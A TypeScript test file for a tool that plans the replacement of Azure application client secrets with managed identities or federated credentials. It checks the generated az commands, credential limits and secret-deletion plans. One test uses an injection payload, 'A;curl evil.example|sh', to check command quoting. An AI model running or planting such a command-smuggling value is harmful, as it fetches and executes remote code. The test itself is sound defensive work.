import { expect, test } from "vitest";
import type { FoundApplication } from "../../shared/applications/query.ts";
import type { Match } from "../../shared/rotation/match.ts";
import { type AssessedConsumer, applyLimit, planOf, verdictOf } from "../../shared/secretless/assess.ts";
import { type ApplicationContext, replacementOf } from "../../shared/secretless/replacement.ts";
import type { SecretConsumer, SyncTarget } from "../../shared/secretless/report.ts";
import { createSecretless } from "../../shared/secretless/secretless.ts";

// Decisions of the report on client secrets that the drawn company does not contain.

const application: ApplicationContext = {
  appId: "11111111-1111-4111-8111-111111111111",
  tenantId: "22222222-2222-4222-8222-222222222222",
  entraIssuer: "https://login.partner.microsoftonline.cn",
  audience: "api://AzureADTokenExchangeChina",
  federated: [
    {
      issuer: "https://token.actions.githubusercontent.com",
      subject: "repo:acme/shop:environment:production",
    },
  ],
};
const SITE =
  "/subscriptions/33333333-3333-4333-8333-333333333333/resourceGroups/rg-shop/providers/Microsoft.Web/sites/shop";
const consumer = (kind: SecretConsumer["kind"], more: Partial<SecretConsumer> = {}): SecretConsumer => ({
  id: SITE,
  kind,
  name: "shop",
  evidence: ["appsettings/CLIENT_SECRET"],
  strength: "references",
  places: [],
  copy: false,
  isCertain: true,
  refresh: "action",
  ...more,
});
const github = (location: SyncTarget["location"], name = "acme/shop/production/SECRET"): SyncTarget => ({
  provider: "github",
  region: undefined,
  name,
  location,
});
const assessed = (one: SecretConsumer, target?: SyncTarget): AssessedConsumer => ({
  ...one,
  replacement: replacementOf(one, application, target),
});
const usage = { lastUsedAt: undefined, idleDays: undefined, evidence: "" };

test.each([
  ["dataFactory", "managedIdentity", "instead"],
  ["logicApp", "managedIdentity", "instead"],
  ["virtualMachine", "managedIdentity", "trusted"],
  ["principal", "unknown", undefined],
  ["applicationGateway", "unknown", undefined],
  ["syncRecord", "unknown", undefined],
] as const)("a consumer of the kind %s is replaced by %s", (kind, by, mode) => {
  expect(replacementOf(consumer(kind), application, undefined)).toMatchObject({ by, ...(mode && { mode }) });
});

test("the issuer of Entra and the audience are those of the cloud, and commands name the slot", () => {
  const slot = consumer("webApp", { id: `${SITE}/slots/staging` });
  const { federatedCredential, steps } = replacementOf(slot, application, undefined);
  expect(federatedCredential).toMatchObject({
    issuer: `https://login.partner.microsoftonline.cn/${application.tenantId}/v2.0`,
    audience: "api://AzureADTokenExchangeChina",
  });
  const commands = steps.flatMap(({ command }) => command ?? []);
  expect(commands.find((command) => command.startsWith("az webapp identity assign"))).toBe(
    "az webapp identity assign --subscription 33333333-3333-4333-8333-333333333333 --resource-group rg-shop --name shop --slot staging --identities '<resource ID of the managed identity>'",
  );
});

test("the issuer of GitHub is proposed only if the last run showed that the target is on github.com", () => {
  const issuerOf = (location: SyncTarget["location"]) =>
    replacementOf(consumer("syncRecord"), application, github(location)).federatedCredential?.issuer;
  expect(issuerOf({ apiUrl: null })).toBe("https://token.actions.githubusercontent.com");
  expect(issuerOf({ apiUrl: "https://github.acme.example/api/v3" })).toMatch(/^</);
  expect(issuerOf({})).toMatch(/^</);
});

test("a federated credential that exists is compared, not added again, and needs no further room", () => {
  const one = assessed(consumer("syncRecord"), github({ apiUrl: null }));
  expect(one.replacement.federatedCredential).toMatchObject({ exists: true });
  expect(JSON.stringify(one.replacement.steps)).not.toContain("federated-credential create");
  expect(applyLimit([one], 20)[0]!.replacement.by).toBe("federatedCredential");
});

test("consumers that can share a managed identity need one federated credential, others one each", () => {
  const sites = ["a", "b", "c"].map((name) => assessed(consumer("webApp", { id: SITE + name, name })));
  const connection = assessed(consumer("devopsServiceConnection", { id: "devops:/acme" }));
  const blockersAt = (existing: number | undefined) =>
    applyLimit([...sites, connection], existing).flatMap(({ replacement }) =>
      replacement.blockers.map(({ code }) => code),
    );
  expect(blockersAt(18)).toEqual([]);
  expect(blockersAt(19)).toEqual(["federatedCredentialLimit"]);
  expect(blockersAt(20)).toHaveLength(4);
  // Not known: the limit is reported as not checked.
  expect(blockersAt(undefined)).toEqual([]);
});

test("a secret of another tenant is blocked, and an unsearched one is unknown, whatever its consumers", () => {
  const consumers = [assessed(consumer("webApp"))];
  const blockers = [{ code: "foreignApplication" as const, message: "It is foreign." }];
  expect(verdictOf(consumers, { blockers, usage, isComplete: true })).toEqual({
    verdict: "blocked",
    reason: "It is foreign.",
  });
  expect(verdictOf(consumers, { blockers: [], usage, isComplete: false }).verdict).toBe("unknown");
  expect(verdictOf(consumers, { blockers: [], usage, isComplete: true }).verdict).toBe("possible");
  const only = [assessed(consumer("kubernetesCluster", { strength: "entitled" }))];
  expect(verdictOf(only, { blockers: [], usage, isComplete: true }).reason).toContain("whether they do is unknown");
});

test("the last steps delete the secret and its copies only if every known consumer can work without it", () => {
  const secret = {
    appId: application.appId,
    keyId: "k",
    places: [
      { assetId: "kv.secret.a", confidence: "certain" as const },
      { assetId: "kv.secret.likely-only", confidence: "likely" as const },
    ],
  };
  const consumers = [assessed(consumer("webApp"))];
  const possible = planOf({ ...secret, consumers, verdict: "possible" }).map(({ command }) => command);
  expect(possible.slice(-2)).toEqual([
    `az ad app credential delete --id ${application.appId} --key-id k`,
    "az keyvault secret delete --vault-name kv --name a",
  ]);
  const partly = planOf({ ...secret, consumers: [...consumers, assessed(consumer("principal"))], verdict: "partly" });
  expect(JSON.stringify(partly)).not.toContain("credential delete");
  expect(planOf({ ...secret, consumers, verdict: "blocked" })).toEqual([]);
});

test("a command stays one command, whatever a resource is called", () => {
  const hostile = consumer("functionApp", { evidence: ["appsettings/A;curl evil.example|sh", "appsettings/B"] });
  const commands = replacementOf(hostile, application, undefined).steps.slice(-2);
  expect(commands[0]!.command).toContain("--setting-names 'A;curl evil.example|sh'");
  expect(commands[1]!.command).toMatch(/--setting-names B$/);
});

test("a plan deletes no vault secret that only its tags, or a sign-in with any secret, tie to the application", async () => {
  const { appId, tenantId } = application;
  const keyIds = ["44444444-4444-4444-8444-444444444444", "55555555-5555-4555-8555-555555555555"];
  const match = (name: string, more: Partial<Match>) =>
    ({
      secret: { vaultName: "kv", name },
      confidence: "certain",
      evidence: [],
      keyId: keyIds[0],
      verified: "none",
      isKnown: false,
      version: undefined,
      ...more,
    }) as unknown as Match;
  const app = {
    appId,
    displayName: "Shop",
    kind: "application",
    credentials: keyIds.map((keyId) => ({ keyId, kind: "secret" })),
    details: { readAt: "2026-11-28T00:00:00.000Z", federated: [] },
  };
  const edge = {
    resource: { id: SITE, kind: "webApp", name: "shop" },
    evidence: "appsettings/CLIENT_SECRET",
    strength: "references",
    name: "client",
    refresh: { how: "action" },
  };
  const secretless = createSecretless({
    applications: { get: async () => ({ app, tenantId, usageOf: () => usage }) as unknown as FoundApplication },
    matches: {
      listMatches: async () => ({
        matches: [
          match("proven", { verified: "signIn", evidence: ["signIn"] }),
          match("tagged", { evidence: ["tag"] }),
          match("any-secret", { verified: "signIn", evidence: ["signIn"], keyId: undefined }),
        ],
        coverage: [],
      }),
    },
    dependencies: {
      edgesOf: async () => ({ edges: [{ edge }], more: false }) as never,
      coverage: async () => ({ items: [], total: 0 }) as never,
    },
    sync: { get: async () => Promise.reject(new Error("No sync record is read.")) },
    cloud: { issuers: { v2: application.entraIssuer }, tokenExchangeAudience: application.audience } as never,
  });
  const { secrets } = await secretless.report(appId);
  const deletions = secrets.map(({ plan }) =>
    plan.flatMap(({ command = "" }) => (command.startsWith("az keyvault secret delete") ? command : [])),
  );
  expect(deletions).toEqual([["az keyvault secret delete --vault-name kv --name proven"], []]);
  expect(secrets[0]!.places.map(({ assetId }) => assetId)).toEqual([
    "kv.secret.proven",
    "kv.secret.tagged",
    "kv.secret.any-secret",
  ]);
});
